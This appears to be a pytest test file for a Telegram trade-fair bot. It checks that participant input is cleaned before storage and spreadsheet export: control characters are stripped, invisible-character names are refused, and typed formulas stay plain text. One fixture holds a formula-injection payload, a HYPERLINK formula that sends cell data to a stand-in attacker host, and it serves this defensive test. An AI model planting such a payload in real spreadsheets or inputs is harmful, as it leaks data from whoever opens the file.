"""What participants type reaches the organizer's workbook cleaned and inert (issue 12, cases
2 to 4): control characters are removed, blank-looking names refused, formulas stay text."""

import io

import pytest
from admin_helpers import organizer
from flows import begin_application
from openpyxl import load_workbook
from sqlmodel import select

import builders
from store.db import session_scope
from store.models import JoinApplication, MeetingRequest, Participant

DIRTY = "Acme\x00 Corp\x07\x1b[31m"
CLEANED = "Acme Corp"
FORMULA = '=HYPERLINK("http://evil.example/?c="&B2,"Open catalogue")'


@pytest.fixture
def fair(bot, engine):
    with session_scope(engine) as session:
        builders.event(session)
        builders.participant(session, "B1", company="Kim Trading", telegram_id=1001, language="en")
        builders.participant(session, "S1", company="한빛화장품")


@pytest.fixture
def kim(fair, fake):
    return fake.user(1001, "Kim", language_code="en")


def kim_stored(engine) -> Participant:
    with session_scope(engine) as session:
        return session.exec(select(Participant).where(Participant.code == "B1")).one()


async def edit(user, section_label, field_label, value):
    [menu] = await user.ask("/menu")
    await user.press(menu, section_label)
    [section] = await user.wait_reply()
    await user.press(section, field_label)
    await user.wait_reply()
    return await user.ask(value)


async def export(fake):
    admin = organizer(fake)
    [document] = await admin.ask("/export")
    return load_workbook(io.BytesIO(document.document_bytes))


def formulas(book):
    return [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(book):
    return {
        cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    } - {None}


@pytest.mark.parametrize(
    ("section", "label", "field"),
    [
        ("🏢 Participation info", "✏️ Company name", "company"),
        ("🏢 Participation info", "✏️ Products", "products"),
        ("👤 Account info", "✏️ Job title", "contact_title"),
    ],
)
async def test_control_characters_are_removed_before_saving(kim, engine, section, label, field):
    saved, _ = await edit(kim, section, label, DIRTY)
    assert "saved" in saved.text
    assert getattr(kim_stored(engine), field) == CLEANED


@pytest.mark.parametrize("blank", ["\u200b\u200b", "\u3164", "\u115f\u1160", " \ufeff\u2060 "])
async def test_a_blank_looking_company_name_is_refused(kim, engine, blank):
    [refusal] = await edit(kim, "🏢 Participation info", "✏️ Company name", blank)
    assert "Company name" in refusal.text and "can't be empty" in refusal.text
    assert kim_stored(engine).company == "Kim Trading"


async def test_a_request_note_is_cleaned(kim, engine):
    [menu] = await kim.ask("/menu")
    await kim.press(menu, "🔎 Find companies")
    [found] = await kim.wait_reply()
    await kim.press(
        found, next(label for row in found.keyboard for label, _ in row if "한빛" in label)
    )
    [card] = await kim.wait_reply()
    await kim.press(card, "📨 Request a meeting")
    await kim.wait_reply()
    [sent] = await kim.ask(f"line one\x00\n{DIRTY}")
    assert "Request sent" in sent.text
    with session_scope(engine) as session:
        assert session.exec(select(MeetingRequest)).one().note == f"line one\n{CLEANED}"


async def test_an_application_contact_is_cleaned(fair, fake, engine):
    an = fake.user(3001, "An", language_code="en")
    await begin_application(an)
    for answer in ["Saigon Imports", "-", "Vietnam", "food", "-", DIRTY, "an@saigon.vn"]:
        await an.ask(answer)
    with session_scope(engine) as session:
        assert session.exec(select(JoinApplication)).one().contact_name == CLEANED


async def test_the_export_holds_typed_formulas_as_text(kim, fake, engine):
    for label, value in (("✏️ Company name", FORMULA), ("✏️ Products", "+1 (555) 0100")):
        await edit(kim, "🏢 Participation info", label, value)
    with session_scope(engine) as session:
        # A row stored before the cleaner existed still must not block the workbook.
        lee = session.exec(select(Participant).where(Participant.code == "S1")).one()
        lee.company = "-Lee\x07\x1b Co"  # PostgreSQL refuses NUL itself
        session.add(lee)
    book = await export(fake)
    assert formulas(book) == []
    assert {FORMULA, "-Lee Co"} <= texts(book)
    sheet = book.worksheets[1]  # participants
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix
